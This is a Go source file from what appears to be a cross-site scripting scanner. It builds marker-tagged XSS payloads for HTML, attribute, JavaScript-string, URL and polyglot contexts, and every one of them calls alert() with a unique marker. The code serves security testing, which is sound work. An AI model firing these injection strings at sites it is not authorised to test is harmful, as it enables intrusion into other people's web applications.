// internal/xss/payloads.go
package xss

import (
	"fmt"
	"strings"

	"github.com/google/uuid"
)

// PayloadCategory groups payloads by the context they break out of.
type PayloadCategory string

const (
	CategoryHTML            PayloadCategory = "html"
	CategoryAttributeDouble PayloadCategory = "attribute_double"
	CategoryAttributeSingle PayloadCategory = "attribute_single"
	CategoryJSString        PayloadCategory = "js_string"
	CategoryURL             PayloadCategory = "url"
	CategoryPolyglot        PayloadCategory = "polyglot"
)

// Payload is one candidate injection string.
type Payload struct {
	Category    PayloadCategory `json:"category"`
	Value       string          `json:"value"`
	Description string          `json:"description"`
}

// PayloadGenerator mints marker-carrying payloads. Each generator owns one
// marker so triggers can be attributed to the test that planted them.
type PayloadGenerator struct {
	marker string
}

// NewPayloadGenerator mints a fresh unique marker.
func NewPayloadGenerator() *PayloadGenerator {
	return &PayloadGenerator{
		marker: "KLMR_" + strings.ToUpper(strings.ReplaceAll(uuid.NewString()[:13], "-", "")),
	}
}

// WithMarker uses a caller-chosen marker instead.
func WithMarker(marker string) *PayloadGenerator {
	return &PayloadGenerator{marker: marker}
}

// Marker returns the generator's marker.
func (g *PayloadGenerator) Marker() string { return g.marker }

// HTMLPayloads break out of element content.
func (g *PayloadGenerator) HTMLPayloads() []Payload {
	m := g.marker
	return []Payload{
		{CategoryHTML, fmt.Sprintf("<script>alert('%s')</script>", m), "script element"},
		{CategoryHTML, fmt.Sprintf("<img src=x onerror=alert('%s')>", m), "img onerror"},
		{CategoryHTML, fmt.Sprintf("<svg onload=alert('%s')>", m), "svg onload"},
		{CategoryHTML, fmt.Sprintf("<details open ontoggle=alert('%s')>", m), "details ontoggle"},
		{CategoryHTML, fmt.Sprintf("<input onfocus=alert('%s') autofocus>", m), "autofocus input"},
	}
}

// AttributePayloads break out of quoted attribute values.
func (g *PayloadGenerator) AttributePayloads() []Payload {
	m := g.marker
	return []Payload{
		{CategoryAttributeDouble, fmt.Sprintf(`" onmouseover="alert('%s')" x="`, m), "double-quote breakout"},
		{CategoryAttributeDouble, fmt.Sprintf(`"><script>alert('%s')</script>`, m), "double-quote tag breakout"},
		{CategoryAttributeSingle, fmt.Sprintf(`' onmouseover='alert("%s")' x='`, m), "single-quote breakout"},
		{CategoryAttributeSingle, fmt.Sprintf(`'><script>alert('%s')</script>`, m), "single-quote tag breakout"},
	}
}

// JSStringPayloads break out of script string literals.
func (g *PayloadGenerator) JSStringPayloads() []Payload {
	m := g.marker
	return []Payload{
		{CategoryJSString, fmt.Sprintf(`';alert('%s');//`, m), "single-quote JS breakout"},
		{CategoryJSString, fmt.Sprintf(`";alert('%s');//`, m), "double-quote JS breakout"},
		{CategoryJSString, fmt.Sprintf("`;alert('%s');//", m), "backtick JS breakout"},
		{CategoryJSString, fmt.Sprintf("${alert('%s')}", m), "template-literal injection"},
	}
}

// URLPayloads target href/src contexts.
func (g *PayloadGenerator) URLPayloads() []Payload {
	m := g.marker
	return []Payload{
		{CategoryURL, fmt.Sprintf("javascript:alert('%s')", m), "javascript: URL"},
	}
}

// PolyglotPayloads try to execute in several contexts at once.
func (g *PayloadGenerator) PolyglotPayloads() []Payload {
	m := g.marker
	return []Payload{
		{CategoryPolyglot, fmt.Sprintf(`jaVasCript:/*-/*'/*\'/*'/*"/**/(/* */oNcliCk=alert('%s') )//%%0D%%0A%%0d%%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!><sVg/<sVg/oNloAd=alert('%s')//>`, m, m), "classic polyglot"},
	}
}

// All returns every category concatenated.
func (g *PayloadGenerator) All() []Payload {
	var out []Payload
	out = append(out, g.HTMLPayloads()...)
	out = append(out, g.AttributePayloads()...)
	out = append(out, g.JSStringPayloads()...)
	out = append(out, g.URLPayloads()...)
	out = append(out, g.PolyglotPayloads()...)
	return out
}
